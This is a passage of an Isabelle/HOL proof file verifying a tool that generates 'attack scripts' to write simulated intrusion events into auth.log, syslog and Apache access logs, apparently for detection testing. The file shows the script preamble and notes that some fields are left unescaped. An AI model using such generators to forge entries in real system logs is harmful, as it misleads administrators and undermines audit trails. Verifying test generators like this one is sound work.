     read_assignments (map fst (custom_variables c i) @ [''EPS'', ''DURATION'', ''SEQ_START'']) script =
       Some (custom_variables c i @ [(''EPS'', int_str (cc_eps c)), (''DURATION'', int_str (cc_duration c)), (''SEQ_START'', int_str (cc_seq_start c))],
         ''TOTAL=$((EPS * DURATION))'' @ nl @ nl @ CUSTOM_BODY)"
proof -
  let ?rest = "''TOTAL=$((EPS * DURATION))'' @ nl @ nl @ CUSTOM_BODY"
  let ?ints = "''EPS='' @ int_str (cc_eps c) @ nl @ ''DURATION='' @ int_str (cc_duration c) @ nl @ ''SEQ_START='' @ int_str (cc_seq_start c) @ nl @ ?rest"
  have "read_assignments [''EPS'', ''DURATION'', ''SEQ_START''] ?ints =
      Some ([(''EPS'', int_str (cc_eps c)), (''DURATION'', int_str (cc_duration c)), (''SEQ_START'', int_str (cc_seq_start c))], ?rest)"
    using read_int_assignment [of "''EPS''"] read_int_assignment [of "''DURATION''"] read_int_assignment [of "''SEQ_START''"] by simp
  then have "read_assignments (map fst (custom_variables c i) @ [''EPS'', ''DURATION'', ''SEQ_START''])
      (concat (map (\<lambda>(name, v). quoted name v) (custom_variables c i)) @ ?ints) =
      Some (custom_variables c i @ [(''EPS'', int_str (cc_eps c)), (''DURATION'', int_str (cc_duration c)), (''SEQ_START'', int_str (cc_seq_start c))], ?rest)"
    by (simp only: read_assignments_append read_all_quoted option.case prod.case option.map)
  then show ?thesis unfolding build_custom_log_script_def by (intro exI conjI) (rule refl, simp only: append_assoc)
qed

text \<open>
  The message is read back from the JSON line the script prints unless it has a control character other than the
  three that are escaped: those are written as they are, which is not JSON. The two addresses and the path are not
  escaped at all.
\<close>

lemma read_escaped_message:
  "list_all (\<lambda>c. 32 \<le> cp c \<or> c \<in> {CHR 0x0A, CHR 0x0D, CHR 0x09}) m \<Longrightarrow> read_text (escape_json_string m @ CHR 0x22 # r) = Some (m, r)"
proof (induction m)
  case (Cons c m)
  have "read_text (escape_json_char c @ q) = cons_read c (read_text q)" for q
    using Cons.prems by (auto simp: escape_json_char_def simple_escape_def)
  then show ?case using Cons by (simp add: escape_json_string_def cons_read_def)
qed (simp add: escape_json_string_def)

lemma control_character_breaks_message: "read_text (escape_json_string [CHR 0x0B] @ dq) = None"
  by code_simp

section \<open>The attack scripts\<close>

lemma profiles_have_bodies: "map fst BODIES = list_simulation_profiles"
  by code_simp

text \<open>The only parts of an attack script that vary are the attacker's address, the count and the prefix of the logs.\<close>

lemma preamble_values:
  "percent_format [(''attacker'', a), (''count'', n), (''root'', r)] PREAMBLE = Some (unlines [
    ''set -e'',
    ''H=$(hostname)'',
    ''IP=$(hostname -I 2>/dev/null | awk '' @ sq @ ''{print $1}'' @ sq @ '')'',
    ''IP=${IP:-10.0.3.10}'',
    ''A='' @ sq @ a @ sq,
    ''N='' @ n,
    ''TS=$(date '' @ sq @ ''+%b %e %H:%M:%S'' @ sq @ '')'',
    ''AUTH='' @ sq @ r @ ''/var/log/auth.log'' @ sq,
    ''SYSLOG='' @ sq @ r @ ''/var/log/syslog'' @ sq,
    ''WEB='' @ sq @ r @ ''/var/log/apache2/access.log'' @ sq,
    ''mkdir -p '' @ dq @ ''$(dirname '' @ dq @ ''$AUTH'' @ dq @ '')'' @ dq @ '' '' @ dq @ ''$(dirname '' @ dq @ ''$WEB'' @ dq @ '')'' @ dq])"
  by (simp add: PREAMBLE_def unlines_def)

lemma ip_text_inert: "ip_text a \<Longrightarrow> shell_inert a"
  by (auto simp: ip_text_def shell_inert_def list_all_iff shell_inert_char_def one_of_def ascii_alnum_def
      dest: hd_in_set) (auto simp: ascii_digit_def cp_def dest!: hd_in_set)

lemma build_attack_script_Inr:
  "build_attack_script p k a [] = Inr script \<longleftrightarrow>
     (\<exists>body. map_of BODIES p = Some body \<and> ip_text a \<and>
        script = the (percent_format [(''attacker'', a), (''count'', int_str (max 1 k)), (''root'', [])] PREAMBLE) @ body @
          ''echo '' @ dq @ ''EVENTS_WRITTEN=$N'' @ dq @ nl)"
  by (auto simp: build_attack_script_def preamble_values split: option.splits)

lemma attack_script_total:
  "p \<in> set list_simulation_profiles \<Longrightarrow> ip_text a \<Longrightarrow> \<exists>script. build_attack_script p k a [] = Inr script"
proof -
  assume p: "p \<in> set list_simulation_profiles" and a: "ip_text a"
  have "p \<in> set (map fst BODIES)" using p profiles_have_bodies by simp
  then obtain b where "map_of BODIES p = Some b" by (cases "map_of BODIES p") (auto simp: map_of_eq_None_iff)
  then show ?thesis using a by (simp add: build_attack_script_Inr)
qed

section \<open>Syslog messages are always built\<close>

lemma format_fields_keys: "map fst vals = map fst vals' \<Longrightarrow> format_fields vals s = None \<longleftrightarrow> format_fields vals' s = None"
proof (induction s rule: length_induct)
  case (1 s)
  have k: "map_of vals x = None \<longleftrightarrow> map_of vals' x = None" for x
    using 1(2) by (metis list.set_map map_of_eq_None_iff)
  have ih: "format_fields vals q = None \<longleftrightarrow> format_fields vals' q = None" if "length q < length s" for q using 1 that by blast
  show ?case
  proof (cases s)
    case (Cons c r)
    show ?thesis
    proof (cases "c = CHR ''{''")
      case False
      then show ?thesis using ih [of r] Cons by simp
    next
      case True
      let ?x = "takeWhile (\<lambda>x. x \<noteq> CHR ''}'') r"
      show ?thesis
      proof (cases "dropWhile (\<lambda>x. x \<noteq> CHR ''}'') r")
        case Nil
        then show ?thesis using True Cons by (simp del: dropWhile_eq_Nil_conv)
      next
        fix e q assume q: "dropWhile (\<lambda>x. x \<noteq> CHR ''}'') r = e # q"
        show ?thesis
        proof (cases "map_of vals ?x")
          case None
          then show ?thesis using k [of ?x] True Cons q by simp
        next
          case (Some v)
          then obtain v' where "map_of vals' ?x = Some v'" using k [of ?x] by (cases "map_of vals' ?x") auto
          then show ?thesis using Some ih [of q] True Cons q by simp
        qed
      qed
    qed
  qed simp
qed

definition FIELD_NAMES :: "string list" where
  "FIELD_NAMES = [''iface'', ''iface_alt'', ''device_ip'', ''peer_ip'', ''src_ip'', ''dst_ip'', ''src_port'', ''dst_port'', ''conn'',
     ''min'', ''sec'', ''bytes'', ''vlan'', ''mac'', ''sig'', ''timestamp'']"

lemma templates_format:
  "list_all (\<lambda>(t, ts). ts \<noteq> [] \<and> list_all (\<lambda>x. format_fields (map (\<lambda>k. (k, [])) FIELD_NAMES) x \<noteq> None) ts) SYSLOG_TEMPLATES"
  by code_simp

lemma syslog_fields_names: "map fst (syslog_fields ip d) = map fst (map (\<lambda>k. (k, [])) FIELD_NAMES)"
  by (simp add: syslog_fields_def FIELD_NAMES_def)

lemma syslog_message_built: "\<exists>m. build_syslog_message n ip t f d = Some m"
proof -
  obtain ts where ts: "ts \<in> set (map snd SYSLOG_TEMPLATES)" "select_syslog_template t (sd_template d) = ts ! (sd_template d mod length ts)"
  proof (cases "map_of SYSLOG_TEMPLATES t")
    case None
    have "the (map_of SYSLOG_TEMPLATES ''router'') \<in> set (map snd SYSLOG_TEMPLATES)" by code_simp
    then show ?thesis using that None by (simp add: select_syslog_template_def Let_def)
  next
    case (Some ts)
    then show ?thesis using that map_of_SomeD [OF Some] by (force simp: select_syslog_template_def Let_def)
  qed
  then have f: "ts \<noteq> []" "list_all (\<lambda>x. format_fields (map (\<lambda>k. (k, [])) FIELD_NAMES) x \<noteq> None) ts"
    using templates_format by (auto simp: list_all_iff)
  have "ts ! (sd_template d mod length ts) \<in> set ts" using f(1) by (intro nth_mem) simp
  then have "format_fields (map (\<lambda>k. (k, [])) FIELD_NAMES) (ts ! (sd_template d mod length ts)) \<noteq> None"
    using f(2) [unfolded list_all_iff] by blast
  then have "format_fields (syslog_fields ip d) (ts ! (sd_template d mod length ts)) \<noteq> None"
    using format_fields_keys [OF syslog_fields_names, of ip d "ts ! (sd_template d mod length ts)"] by simp
  then show ?thesis using ts(2) by (auto simp: build_syslog_message_def)
qed

end
